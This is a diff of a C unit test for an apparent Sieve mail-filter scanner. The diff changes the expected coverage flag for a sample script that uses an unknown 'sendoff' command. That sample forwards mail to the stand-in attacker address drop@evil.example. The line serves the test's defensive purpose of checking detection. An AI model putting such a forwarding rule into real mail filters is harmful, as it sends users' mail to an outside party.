@@ -38,7 +38,7 @@ static void a_script_with_an_unknown_command_is_not_clean(void **state)
 
     scan_box_script(box, "main", "require [\"vnd.x.send\"];\nsendoff \"drop@evil.example\";\n");
     assert_ok(scan_detect(box->scan, box->run, &err), &err);
-    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, "does what is not known here: sendoff");
+    scan_box_covered(box, "rules-sieve", COVERAGE_FOUND, "does what is not known here: sendoff");
 }
 
 static void a_script_that_calls_an_unknown_one_is_not_wholly_read(void **state)
